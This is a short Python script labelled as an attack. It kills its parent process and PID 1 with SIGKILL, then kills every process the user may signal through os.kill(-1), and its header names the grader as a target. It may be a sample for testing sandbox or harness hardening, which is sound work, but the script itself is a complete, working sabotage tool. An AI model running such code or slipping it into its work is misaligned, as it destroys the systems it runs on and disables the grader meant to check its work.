# Attack: signal every process this user may signal, the grader included.
import os
import signal

for target in (os.getppid(), 1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError as exc:
        print("kill", target, exc)
os.kill(-1, signal.SIGKILL)
